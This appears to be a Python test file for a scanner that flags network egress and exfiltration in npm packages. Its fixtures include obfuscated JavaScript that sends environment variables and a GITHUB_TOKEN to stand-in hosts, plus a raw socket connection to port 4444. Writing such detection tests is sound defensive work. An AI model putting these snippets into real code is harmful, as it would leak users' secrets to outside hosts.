"""Code decoded from a payload keeps its request details: where it connects and what it sends."""

from __future__ import annotations

import base64

from egress.analyzers.javascript import JavaScriptAnalyzer
from egress.engine import ScanOptions, scan
from egress.model import Ecosystem, FindingKind, PackageArtifact, SourceFile

PAYLOAD = ("const h = require('https');\n"
           "h.request('https://collect.example.net/c', {method: 'POST'}).end(JSON.stringify(process.env));\n")
CODE = f"eval(Buffer.from('{base64.b64encode(PAYLOAD.encode()).decode()}', 'base64').toString());\n"


def test_a_base64_eval_payload_has_its_destination_and_data() -> None:
    analysis = JavaScriptAnalyzer().analyze(SourceFile("index.js", CODE.encode()))
    [net] = [f for f in analysis.findings if f.kind is FindingKind.NETWORK]
    assert (net.api, net.line, net.column) == ("https.request", 1, 1)
    assert net.note.startswith("in decoded payload (base64, depth 1); payload line 2")
    assert [(d.text, d.known) for d in net.destinations] == [("https://collect.example.net/c", "full")]
    assert net.data_sources == ("env",)


def test_through_the_pipeline_it_is_exfiltration() -> None:
    def read(want):
        return iter([SourceFile("index.js", CODE.encode())])

    [result] = scan([PackageArtifact(Ecosystem.NPM, "p", "1.0.0", read_files=read, metadata={"main": "index.js"})],
                    ScanOptions(jobs=1)).packages
    assert ("exfiltration", "critical") in {(a.type, a.severity.value) for a in result.alerts}


def test_a_new_function_gets_require_under_another_name() -> None:
    code = (b"new Function('r', \"r('https').get('https://fn.example.com/?k='+process.env.GITHUB_TOKEN)\")(require);\n"
            b"Function('a, b', 'return a + b')(1, 2);\n")
    found = [(f.kind.value, f.api, f.line, f.data_sources) for f in JavaScriptAnalyzer().analyze(
        SourceFile("f.js", code)).findings]
    assert found == [("network", "https.get", 1, ("env GITHUB_TOKEN",))]


def test_a_local_loader_wrapper_is_read_at_its_calls() -> None:
    code = (b"function load(x) { return require(x); }\nconst imp = (n) => require(n);\n"
            b"load('https').get('https://w.example.com/a');\nimp('net').connect(4444, '198.51.100.201');\n"
            b"function other(y) { return require(y); }\nother(process.argv[2]);\n")
    found = [(f.kind.value, f.api, f.line, tuple(d.text for d in f.destinations))
             for f in JavaScriptAnalyzer().analyze(SourceFile("w.js", code)).findings]
    assert found == [("network", "https.get", 3, ("https://w.example.com/a",)),
                     ("network", "net.connect", 4, ("198.51.100.201:4444",)),
                     ("dynamicRequire", "require", 5, ())]       # a caller passes what cannot be folded
